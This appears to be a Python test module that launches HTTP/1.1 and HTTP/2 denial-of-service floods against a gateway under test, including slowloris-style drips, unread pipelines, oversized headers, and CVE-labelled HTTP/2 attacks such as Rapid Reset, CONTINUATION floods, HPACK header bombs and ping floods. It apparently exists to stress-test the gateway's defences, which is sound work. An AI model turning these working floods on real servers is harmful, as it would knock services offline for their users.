"""Floods of HTTP, as :mod:`tests.floods.attack` has others of TLS and TCP, and with the same arguments."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Awaitable, Callable, Iterator

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from tests.floods.aim import Aim
from tests.floods.attack import Stream, attack, holding, main, many, secure, to_the_end

_GET = b"GET / HTTP/1.1\r\nHost: web\r\n\r\n"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FIELDS = ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"web"), (b":path", b"/"))
_END = ["END_HEADERS", "END_STREAM"]
_PATIENCE_S = 5.0


async def drip(aim: Aim, count: int, hold_s: float, first: bytes, rest: bytes) -> int:
    """A byte now and then of what would be whole long ago."""
    context = aim.context()
    held: list[Stream] = []

    async def keep(_: int) -> None:
        reader, writer = await secure(aim, context)
        writer.write(first)
        held.append((reader, writer))

    await many(count, keep)
    until_s = time.monotonic() + hold_s
    for byte in rest:
        for _, writer in held:
            if not writer.transport.is_closing():
                writer.write(bytes([byte]))
        if time.monotonic() > until_s:
            break
        await asyncio.sleep(0.1)
    for _, writer in held:
        writer.transport.abort()
    return count


@attack
async def slow_heads(aim: Aim, count: int, hold_s: float) -> int:
    return await drip(aim, count, hold_s, b"GET / HTTP/1.1\r\n", b"X-Slow: " + b"a" * 10_000)


@attack
async def slow_bodies(aim: Aim, count: int, hold_s: float) -> int:
    head = b"POST /echo HTTP/1.1\r\nHost: web\r\nContent-Length: 1000000\r\n\r\n"
    return await drip(aim, count, hold_s, head, b"a" * 10_000)


@attack
async def slow_chunks(aim: Aim, count: int, hold_s: float) -> int:
    head = b"POST /echo HTTP/1.1\r\nHost: web\r\nTransfer-Encoding: chunked\r\n\r\n"
    return await drip(aim, count, hold_s, head, b"1\r\na\r\n" * 2_000)


@attack
async def kept_alive(aim: Aim, count: int, hold_s: float) -> int:
    """Each has asked once, and could ask again."""
    context = aim.context()

    async def one(_: int) -> Stream:
        reader, writer = await secure(aim, context)
        writer.write(_GET)
        await reader.readuntil(b"\r\n\r\n")
        return reader, writer

    return await holding(count, hold_s, one)


@attack
async def pipelines(aim: Aim, count: int, hold_s: float) -> int:
    """Requests without end, whose answers are not read."""
    context = aim.context()

    async def one(_: int) -> None:
        reader, writer = await secure(aim, context)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(hold_s):
                while True:
                    writer.write(b"GET /large HTTP/1.1\r\nHost: web\r\n\r\n" * 100)
                    await writer.drain()
        writer.transport.abort()

    return await many(count, one)


@attack
async def huge_heads(aim: Aim, count: int, _hold_s: float) -> int:
    async def one(writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET / HTTP/1.1\r\nHost: web\r\n")
        for number in range(2_000):
            writer.write(b"X-%d: %s\r\n" % (number, b"a" * 100))
            await writer.drain()

    return await _to_their_end(aim, count, one)


@attack
async def rapid_resets(aim: Aim, count: int, _hold_s: float) -> int:
    """CVE-2023-44487."""

    def frames() -> Iterator[bytes]:
        block = Encoder().encode(_FIELDS)
        for stream in range(1, 20_001, 2):
            yield HeadersFrame(stream, data=block, flags=_END).serialize() + RstStreamFrame(stream, 8).serialize()

    return await _frames(aim, count, frames)


@attack
async def provoked_resets(aim: Aim, count: int, _hold_s: float) -> int:
    """CVE-2025-8671: the gateway is made to reset what it has begun to answer."""
    window = struct.pack(">BBBBBII", 0, 0, 4, 8, 0, 0, 0)

    def frames() -> Iterator[bytes]:
        block = Encoder().encode(_FIELDS)
        for stream in range(1, 20_001, 2):
            empty = window[:5] + struct.pack(">II", stream, 0)
            yield HeadersFrame(stream, data=block, flags=_END).serialize() + empty

    return await _frames(aim, count, frames)


@attack
async def continuations(aim: Aim, count: int, _hold_s: float) -> int:
    """CVE-2024-27316: a head without end."""

    def frames() -> Iterator[bytes]:
        yield HeadersFrame(1, data=Encoder().encode(_FIELDS)).serialize()
        for _ in range(20_000):
            yield ContinuationFrame(1, data=b"\x00\x03x-a\x03bcd").serialize()

    return await _frames(aim, count, frames)


@attack
async def header_bombs(aim: Aim, count: int, _hold_s: float) -> int:
    """A few kilobytes of references to one large header become megabytes."""

    def frames() -> Iterator[bytes]:
        encoder = Encoder()
        block = encoder.encode([*_FIELDS, (b"x-bomb", b"a" * 4_000)])
        yield HeadersFrame(1, data=block, flags=_END).serialize()
        again = encoder.encode(_FIELDS) + encoder.encode([(b"x-bomb", b"a" * 4_000)]) * 8_000
        for stream in range(3, 203, 2):
            yield HeadersFrame(stream, data=again, flags=_END).serialize()

    return await _frames(aim, count, frames)


@attack
async def pings(aim: Aim, count: int, _hold_s: float) -> int:
    """CVE-2019-9512 and CVE-2019-9515: each is to be answered."""

    def frames() -> Iterator[bytes]:
        for _ in range(10_000):
            yield PingFrame(0, opaque_data=b"12345678").serialize() + SettingsFrame(0).serialize()

    return await _frames(aim, count, frames)


@attack
async def closed_windows(aim: Aim, count: int, hold_s: float) -> int:
    """A hundred large answers on each connection, and no window for any of them."""
    context = aim.context()

    async def one(_: int) -> Stream:
        reader, writer = await secure(aim, context)
        writer.write(_PREFACE + SettingsFrame(0, settings={4: 0}).serialize())
        block = Encoder().encode((*_FIELDS[:3], (b":path", b"/large")))
        for stream in range(1, 201, 2):
            writer.write(HeadersFrame(stream, data=block, flags=_END).serialize())
        await writer.drain()
        return reader, writer

    return await holding(count, hold_s, one)


async def _frames(aim: Aim, count: int, frames: Callable[[], Iterator[bytes]]) -> int:
    async def one(writer: asyncio.StreamWriter) -> None:
        writer.write(_PREFACE + SettingsFrame(0).serialize())
        for frame in frames():
            writer.write(frame)
            await writer.drain()

    return await _to_their_end(aim, count, one)


async def _to_their_end(aim: Aim, count: int, say: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> int:
    """Say it, reading what comes, until the gateway has had enough."""
    context = aim.context()

    async def one(_: int) -> None:
        reader, writer = await secure(aim, context)
        async with asyncio.TaskGroup() as group:
            reading = group.create_task(_drained(reader))
            with contextlib.suppress(ConnectionError):
                await say(writer)
            await reading
        writer.transport.abort()

    return await many(count, one)


async def _drained(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(TimeoutError, OSError):
        async with asyncio.timeout(_PATIENCE_S):
            await to_the_end(reader)


if __name__ == "__main__":
    main()
